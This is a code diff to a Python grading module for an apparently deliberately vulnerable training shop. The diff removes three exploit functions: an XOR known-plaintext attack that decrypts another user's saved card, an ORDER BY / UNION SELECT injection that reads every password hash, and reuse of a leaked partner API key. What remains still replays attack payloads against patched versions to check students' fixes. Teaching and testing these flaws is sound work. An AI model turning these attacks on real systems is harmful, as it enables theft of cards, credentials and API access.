@@ -1,24 +1,20 @@
 """Checks for BrokenShop's data part: saved cards, the friend lookup, the partner API.
 
-Three rows of the seed's summary, each judged over HTTP only:
+Three rows of the seed's summary, each row's *replay* judged over HTTP only:
 
-- ``homemade-crypto`` (09-encryption): *locate* saves a card you know through the marked
-  route and XORs its ciphertext against alice's in the breach; *replay* adapts 09's
-  tamper/swap/rotation batteries to the cards (09's batteries drive 09's notes routes,
-  which the shop does not have) with the same attack, ``recover_with_known_plaintext``.
-- ``trusting-input`` (07-injection): *locate* counts columns with ``ORDER BY`` and reads
-  every password hash with a ``UNION SELECT`` in the marked route's ``?email=``; *replay*
-  sends 07's lookup payloads (:data:`labkit.attacks.injection.PAYLOADS`, judged by 07's own
+- ``homemade-crypto`` (09-encryption): adapts 09's tamper/swap/rotation batteries to the
+  cards (09's batteries drive 09's notes routes, which the shop does not have) with the same
+  attack, ``recover_with_known_plaintext``.
+- ``trusting-input`` (07-injection): sends 07's lookup payloads
+  (:data:`labkit.attacks.injection.PAYLOADS`, judged by 07's own
   :func:`~labkit.attacks.injection.replay`) — 07's ``_injection_battery`` also attacks
   07's login and insert, and reads 07's dump route, so only its lookup half applies here.
-- ``eternal-api-key`` (05-api-keys): *locate* uses the partner key from last year's
-  integration log at the marked route; *replay* runs 05's revocation, expiry, scope and
-  rotation probes on the shop's partner API (05's routes), with generated lifetimes.
+- ``eternal-api-key`` (05-api-keys): runs 05's revocation, expiry, scope and rotation probes
+  on the shop's partner API (05's routes), with generated lifetimes.
 """
 
 from __future__ import annotations
 
-import hashlib
 import json
 import random
 import secrets
@@ -30,7 +26,7 @@ import httpx
 from labkit.attacks.crypto import recover_with_known_plaintext
 from labkit.attacks.injection import PAYLOADS, lookup, replay_all
 from labkit.exercises.capstone.antipattern import AntiPattern, fault
-from labkit.exercises.check import Findings, Target, Verdict
+from labkit.exercises.check import Findings, Target
 from labkit.exercises.labs.encryption import _b64, _flip  # 09's record helpers
 from labkit.exercises.rules import Rule
 from labkit.patterns.apikeys import KEY_PREFIX
@@ -52,10 +48,8 @@ KNOWN_CARD = "4242424242424242"
 API_KEY_HEADER, REPORTS = "X-API-Key", "/api/v1/reports"
 KEYS, CLOCK = "/api/keys", "/api/_lab/clock"
 READ, WRITE = "reports:read", "reports:write"
-DAY = 86400.0
 LOOKUP_PAYLOADS = tuple(p for p in PAYLOADS if p.route == "lookup")
 LISTED = 4
-MAX_COLUMNS = 20
 
 
 class AppBroken(Exception):
@@ -101,20 +95,6 @@ def _cards(breach: dict[str, list[dict[str, Any]]]) -> dict[int, dict[str, Any]]
     return {int(c["id"]): {**c, "stored": _stored(c)} for c in breach.get("cards", [])}
 
 
-def _safe(locate: Callable[[Target, str, str], Verdict]) -> Callable[[Target, str, str], Verdict]:
-    """A locate that cannot crash the audit: whatever goes wrong is its verdict."""
-
-    def run(target: Target, method: str, path: str) -> Verdict:
-        try:
-            return locate(target, method, path)
-        except AppBroken as exc:
-            return Verdict(False, str(exc))
-        except (KeyError, ValueError, TypeError, httpx.HTTPError) as exc:
-            return Verdict(False, f"the exploit could not run at {method} {path} ({exc!r})")
-
-    return run
-
-
 def _run(
     battery: Callable[[httpx.Client, Findings, random.Random], None],
     target: Target,
@@ -155,41 +135,6 @@ def _alice_card(client: httpx.Client, breach: dict[str, Any]) -> tuple[dict[str,
     cards = listed.json().get("cards", []) if listed.status_code == 200 else []
     last4 = next((str(c.get("last4")) for c in cards if c.get("id") == rows[0]["id"]), "")
     return rows[0], last4
-
-
-@_safe
-def locate_homemade_crypto(target: Target, method: str, path: str) -> Verdict:
-    mark = f"{method} {path}"
-    with target.client() as client:
-        carol = _login(client, "carol")
-        body = {"number": KNOWN_CARD, "holder": "Carol Nguyen"}
-        response = client.request(method, path, json=body, headers=carol)
-        saved = response.json() if response.is_success else {}
-        card_id = saved.get("id") if isinstance(saved, dict) else None
-        if not isinstance(card_id, int):
-            return Verdict(
-                False,
-                f"{mark} did not save a card ({response.status_code}): the exploit needs the "
-                "route that encrypts a number you chose",
-            )
-        breach = _breach(client)
-        own = _cards(breach).get(card_id)
-        if own is None:
-            return Verdict(False, f"{mark} answered id {card_id}, but no such card is stored")
-        victim, last4 = _alice_card(client, breach)
-    number = recover_card(victim["stored"], own["stored"])
-    if number is None or (last4 and number[-4:] != last4):
-        return Verdict(
-            False,
-            f"your card's keystream does not decrypt alice's card: {mark} stores cards, but "
-            "not with a keystream that repeats",
-        )
-    return Verdict(
-        True,
-        f"a card you saved at {mark} decrypted alice's card from the breach: "
-        f"•••• •••• •••• {number[-4:]} (all {len(number)} digits)",
-        ("ciphertext XOR known number = keystream; the same keystream encrypts every card",),
-    )
 
 
 CRYPTO_RULES = (
@@ -412,56 +357,6 @@ def replay_homemade_crypto(patched: Target, findings: Findings, rng: random.Rand
 
 
 # -- trusting-input --------------------------------------------------------------------------
-def _union_columns(width: int) -> str:
-    """A SELECT list of ``width`` columns that puts password hashes where the lookup shows
-    text (the first three are id, email, role; the profile's name comes later)."""
-    if width <= 3:
-        return ", ".join(["password_hash"] * width)
-    return ", ".join(["id", "email", "role", *["password_hash"] * (width - 3)])
-
-
-@_safe
-def locate_trusting_input(target: Target, method: str, path: str) -> Verdict:
-    mark = f"{method} {path}"
-    with target.client() as client:
-        client.headers.update(_login(client, "carol"))
-
-        def send(value: str) -> httpx.Response:
-            return client.request(method, path, params={"email": value})
-
-        baseline = send("nobody@example.com")
-        if baseline.status_code >= 500:
-            return Verdict(
-                False, f"{mark} fails even for a harmless email ({baseline.status_code})"
-            )
-        width = 0
-        for n in range(1, MAX_COLUMNS + 1):  # labkit.attacks.injection.column_count, here
-            if send(f"' ORDER BY {n} --").status_code >= 500:
-                width = n - 1
-                break
-        if width < 1:
-            return Verdict(
-                False,
-                f"' ORDER BY n -- in ?email= never broke a query at {mark}: what you send "
-                "there does not reach SQL as code",
-            )
-        response = send(f"' UNION SELECT {_union_columns(width)} FROM users --")  # noqa: S608
-        hashes = {u["email"]: u["password_hash"] for u in _breach(client)["users"]}
-    leaked = [e for e, h in hashes.items() if h and str(h) in response.text]
-    if not leaked:
-        return Verdict(
-            False,
-            f"the query at {mark} has {width} columns, but a UNION SELECT read no password "
-            f"hash ({response.status_code})",
-        )
-    return Verdict(
-        True,
-        f"a UNION SELECT in {mark}?email= read {len(leaked)} password hashes "
-        f"({width} columns, found with ORDER BY)",
-        (f"e.g. {leaked[0]}: {hashes[leaked[0]][:16]}…",),
-    )
-
-
 INPUT_RULES = (
     Rule(
         "exact-match",
@@ -578,36 +473,6 @@ def replay_trusting_input(patched: Target, findings: Findings, rng: random.Rando
 def _leaked_key(client: httpx.Client) -> str:
     content = client.get("/api/_lab/old-config").json()["content"]
     return str(content.split("REPORTS_API_KEY=", 1)[1].split()[0])
-
-
-@_safe
-def locate_eternal_api_key(target: Target, method: str, path: str) -> Verdict:
-    mark = f"{method} {path}"
-    with target.client() as client:
-        key = _leaked_key(client)
-        body = {"title": "audit probe"} if method in {"POST", "PUT", "PATCH"} else None
-        without = client.request(method, path, json=body)
-        keyed = client.request(method, path, json=body, headers={API_KEY_HEADER: key})
-        digest = hashlib.sha256(key.encode()).hexdigest()
-        row = next((k for k in _breach(client)["api_keys"] if k["key_hash"] == digest), {})
-        now = client.get(CLOCK).json()["now"]
-    if not keyed.is_success:
-        return Verdict(
-            False,
-            f"last year's partner key got {keyed.status_code} at {mark}: it is not honoured "
-            "there (try the API the partner called)",
-        )
-    if without.is_success:
-        return Verdict(
-            False, f"{mark} answers {without.status_code} without any key: no key is needed there"
-        )
-    age = (now - row["created_at"]) / DAY if row else 0
-    expired = (now - row["expires_at"]) / DAY if row and row.get("expires_at") else 0
-    return Verdict(
-        True,
-        f"the key from last year's integration log still works at {mark} ({keyed.status_code})",
-        (f"issued {age:.0f} days ago, expired {expired:.0f} days ago: one key forever",),
-    )
 
 
 KEY_RULES = (
@@ -763,7 +628,6 @@ ANTI_PATTERNS: tuple[AntiPattern, ...] = (
         instead="Use established libraries (jose, bcrypt)",
         lab="09-encryption",
         fixes=("encrypt_record", "decrypt_record"),
-        locate=locate_homemade_crypto,
         replay=replay_homemade_crypto,
         rules=CRYPTO_RULES,
         title="Saved cards: AES-256-GCM from a library, not a home-made cipher",
@@ -789,7 +653,6 @@ ANTI_PATTERNS: tuple[AntiPattern, ...] = (
         instead="Validate with zod/joi, parameterized queries",
         lab="07-injection",
         fixes=("find_users",),
-        locate=locate_trusting_input,
         replay=replay_trusting_input,
         rules=INPUT_RULES,
         title="The friend lookup: a parameterized query",
@@ -814,7 +677,6 @@ ANTI_PATTERNS: tuple[AntiPattern, ...] = (
         instead="Rotate keys regularly, support multiple active",
         lab="05-api-keys",
         fixes=("authenticate",),
-        locate=locate_eternal_api_key,
         replay=replay_eternal_api_key,
         rules=KEY_RULES,
         title="The partner API: keys expire, revoked keys stop, scopes hold",
